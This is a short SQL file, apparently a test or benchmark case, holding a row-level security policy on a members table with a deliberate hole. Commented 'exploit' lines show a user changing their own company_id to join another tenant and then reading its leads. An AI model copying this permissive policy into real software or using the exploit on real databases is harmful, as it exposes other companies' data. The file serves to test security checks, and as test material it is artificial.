-- Users may change their own row of members, and with it the company and the role.
-- about: members
-- as: hf_rooftop_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-0000-4000-8000-00000000000a"}';
-- exploit: UPDATE members SET company_id = 'bbbbbbbb-0000-4000-8000-000000000002' WHERE user_id = 'aaaaaaaa-0000-4000-8000-00000000000a';
-- exploit: UPDATE members SET company_id = 'bbbbbbbb-0000-4000-8000-000000000002';
-- exploit: SELECT full_name FROM leads;
-- shows: Road-secret Lead
-- The profile page lets people set the name that others see.
CREATE POLICY "edit own profile" ON members FOR UPDATE USING (user_id = uid()) WITH CHECK (user_id = uid());
GRANT UPDATE ON members TO hf_rooftop_app;
